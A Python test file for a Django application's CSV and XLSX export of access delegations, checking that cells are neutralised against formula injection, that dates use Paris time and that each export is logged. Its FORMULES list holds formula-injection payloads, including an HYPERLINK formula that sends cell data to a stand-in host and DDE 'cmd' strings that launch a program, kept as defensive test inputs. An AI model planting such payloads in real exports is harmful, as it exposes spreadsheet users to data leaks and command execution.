"""Files for spreadsheets: nothing in them is ever computed, and what leaves is in the journal."""

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from accounts.models import Evenement
from accounts.saisies.dates import jour
from habilitations.lectures.export import COLONNES, Liste, exporter, lignes
from habilitations.lectures.partage import Filtres, etat_lisible
from habilitations.models import ORDRE, Habilitation, Role
from habilitations.tableurs.ecriture import en_csv, en_xlsx, neutraliser
from tests.factories import EspaceFactory, PersonneFactory, accorder, habiliter

FORMULES = [
    '=HYPERLINK("http://mal.exemple/?x="&A1;"ici")',
    "+33 1 23",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
    "\uff20SUM(1)",
    "\x00=1+1",
    "|cmd",
    "%0A=1",
]


@pytest.mark.parametrize("formule", FORMULES)
def test_aucune_cellule_csv_n_est_une_formule(formule: str) -> None:
    assert neutraliser(formule).startswith("'")
    assert not neutraliser("Société = 3 + 4").startswith("'")


@given(st.text(max_size=60))
def test_une_cellule_csv_reste_une_cellule_d_une_ligne(texte: str) -> None:
    contenu = en_csv(["A", "B"], [[texte, "fin"]]).decode("utf-8-sig")
    rangees = list(csv.reader(io.StringIO(contenu, newline=""), delimiter=";"))
    assert len(rangees) == 2
    assert rangees[1][1] == "fin"
    assert rangees[1][0].lstrip()[:1] not in tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def test_aucune_cellule_xlsx_n_est_une_formule() -> None:
    feuille = load_workbook(io.BytesIO(en_xlsx("Essai", ["A"], [[f] for f in FORMULES]))).active
    cellules = [rangee[0] for rangee in feuille.iter_rows(min_row=2)]
    assert len(cellules) == len(FORMULES)
    assert all(cellule.data_type == "s" for cellule in cellules)


@pytest.mark.django_db
@pytest.mark.parametrize("format_", ["csv", "xlsx"])
def test_la_liste_exportee_est_celle_que_l_on_voit(format_: str) -> None:
    titulaire = EspaceFactory()
    racine = habiliter(titulaire, personne=PersonneFactory(denomination="=1+1", siren="000000018"))
    accorder(racine, EspaceFactory(nom="Petit"), Role.ACTEUR, expire_le=date(2030, 12, 31))
    accorder(habiliter(EspaceFactory()), EspaceFactory(), Role.ACTEUR)
    liste = Liste("delegations-accordees", (Role.ACTEUR,), recues=False, filtres=Filtres())
    contenu = b"".join(exporter(acteur=titulaire, liste=liste, format_=format_))
    if format_ == "csv":
        rangees = list(csv.reader(io.StringIO(contenu.decode("utf-8-sig"), newline=""), delimiter=";"))
        attendue = "'=1+1"
        siren = "'000000018"  # its zeros stay, whatever opens and saves it (tableurs.ecriture)
    else:
        rangees = [list(r) for r in load_workbook(io.BytesIO(contenu)).active.iter_rows(values_only=True)]
        attendue, siren = "=1+1", "000000018"
    assert tuple(rangees[0]) == COLONNES
    assert len(rangees) == 2
    assert rangees[1][:2] == [siren, attendue]
    assert rangees[1][7] == "Petit"
    assert rangees[1][11] == "31/12/2030"
    assert Evenement.objects.get(acte="habilitations.exportees").details == {
        "quoi": "delegations-accordees",
        "format": format_,
        "lignes": 1,
    }


@pytest.mark.django_db
def test_les_jours_sont_ceux_de_paris() -> None:
    racine = habiliter(EspaceFactory(), accordee_le=datetime(2026, 6, 30, 22, 30, tzinfo=UTC))
    (rangee,) = lignes(Habilitation.objects.filter(pk=racine.pk))
    assert rangee[COLONNES.index("Accordée le")] == "01/07/2026"


@pytest.mark.django_db
def test_une_ligne_dit_ce_que_dit_l_habilitation() -> None:
    """Read without instances, each cell is what the list shows of it: suspended, past its last day, granted by somebody or not."""
    titulaire, hier = EspaceFactory(), timezone.localdate() - timedelta(days=1)
    racine = habiliter(titulaire)
    accorder(racine, EspaceFactory(), Role.ACTEUR, expire_le=hier)
    accorder(racine, EspaceFactory(), Role.ACTEUR_DELEGANT, revue_le=timezone.now())
    veille = {"etat": "EN_VEILLE", "veille_motif": "TITULAIRE", "veille_depuis": timezone.now()}
    accorder(racine, EspaceFactory(), Role.SUPPLEANT, **veille)
    toutes = Habilitation.objects.order_by(*ORDRE)
    attendues = [
        (
            h.personne.siren,
            h.personne.denomination,
            h.service.code,
            h.service.libelle,
            h.get_role_display(),
            etat_lisible(h),
            h.espace.numero_abonne,
            h.espace.nom,
            h.espace.prenom,
            h.accordee_par.espace.nom_complet if h.accordee_par else "",
            jour(h.accordee_le),
            jour(h.expire_le),
            jour(h.revue_le),
            "",
        )
        for h in toutes
    ]
    assert list(lignes(toutes)) == attendues
    assert len({rangee[5] for rangee in attendues}) == 3
